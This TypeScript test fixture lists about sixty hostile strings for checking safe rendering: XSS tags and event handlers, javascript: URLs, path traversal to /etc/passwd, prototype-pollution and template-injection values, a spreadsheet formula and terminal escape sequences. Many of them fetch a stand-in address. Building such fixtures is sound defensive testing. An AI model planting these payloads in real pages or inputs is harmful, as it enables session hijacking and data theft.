// Texts that would run, load, lead elsewhere, draw over or break a page that shows them without care. Where one runs, it sets `pwned` and asks
// an address that is nowhere; the policy would tell of it even so.

const RUN = "globalThis.pwned=1;fetch('//192.0.2.9/')";

const HTML = [
  `<script>${RUN}</script>`,
  `</script><script>${RUN}</script>`,
  `<img src=x onerror="${RUN}">`,
  `<svg onload="${RUN}">`,
  `<svg><script>${RUN}</script></svg>`,
  `<iframe srcdoc="<script>parent.pwned=1</script>"></iframe>`,
  `<iframe src="javascript:${RUN}"></iframe>`,
  `<object data="data:text/html,<script>${RUN}</script>">`,
  `<embed src="//192.0.2.9/x">`,
  `<link rel=stylesheet href="//192.0.2.9/x.css">`,
  `<style>@import '//192.0.2.9/x.css';*{display:none}</style>`,
  `<base href="//192.0.2.9/">`,
  `<meta http-equiv="refresh" content="0;url=//192.0.2.9/">`,
  `<form action="//192.0.2.9/"><button autofocus>`,
  `<details open ontoggle="${RUN}">`,
  `<body onload="${RUN}">`,
  `<input autofocus onfocus="${RUN}">`,
  `<video><source onerror="${RUN}"></video>`,
  `<math><mi xlink:href="javascript:${RUN}">x</mi></math>`,
  `<template><script>${RUN}</script></template>`,
  `"><img src=x onerror="${RUN}">`,
  `'><svg/onload="${RUN}">`,
  `" onmouseover="${RUN}" x="`,
  `' autofocus onfocus='${RUN}`,
  `<!--<img src="--><img src=x onerror=${RUN}//">`,
  `<noscript><p title="</noscript><img src=x onerror=${RUN}>">`,
  `<a href="javascript:${RUN}">click</a>`,
  `&lt;script&gt;${RUN}&lt;/script&gt;`,
  `]]><script>${RUN}</script>`,
];

const ADDRESSES = [
  `javascript:${RUN}`,
  `JaVaScRiPt:${RUN}`,
  `data:text/html,<script>${RUN}</script>`,
  `vbscript:msgbox(1)`,
  `//192.0.2.9/x`,
  `https://192.0.2.9/x.png`,
  `[click](javascript:${RUN})`,
  `![x](https://192.0.2.9/x.png)`,
  `[x]: javascript:${RUN}`,
  `<javascript:${RUN}>`,
  `../../../../etc/passwd`,
  `/runs/../../auth/logout`,
  `?tab=logs#key=weir_u_stolen`,
  `%3Cscript%3E${RUN}%3C/script%3E`,
];

const CODE = [
  `{{constructor.constructor('${RUN}')()}}`,
  "${globalThis.pwned=1}",
  `__proto__`,
  `constructor`,
  `toString`,
  `{"__proto__":{"pwned":1}}`,
  `'); ${RUN}; ('`,
  `=HYPERLINK("//192.0.2.9/","x")`,
];

const LOOKS = [
  `\u202egnp.exe\u202c`,
  `\u2028${RUN}\u2029`,
  `Z\u0335\u0321a\u0336\u0322l\u0337\u0323g\u0338\u0324o\u0339\u0325`.repeat(6),
  "W".repeat(200),
  `🏳️‍🌈👩‍👩‍👧‍👦`.repeat(4),
  `**bold** _em_ # head | a | b |`,
  `weir-sealed:eyJhbGciOiJkaXIifQ..AAAA.AAAA.AAAA`,
  `null`,
  `\ufeff \u00a0x\u200b`,
];

/** Sixty, each short enough to be a name. */
export const HOSTILE: readonly string[] = [...HTML, ...ADDRESSES, ...CODE, ...LOOKS];

/** What only longer texts may hold: lines of a log, messages of failures. */
export const HOSTILE_LINES: readonly string[] = [
  ...HOSTILE,
  `\u001b]8;;javascript:${RUN}\u0007click\u001b]8;;\u0007`,
  `\u001b[2J\u001b[H\u001b[31;1;5;7;8mhidden\u001b[999999999999m`,
  `\u001b[38;2;999;-1;1e9mx\u001b[48;5;9999my\u001b[`,
  `\u0007\b\r\n\t\u001b`,
];
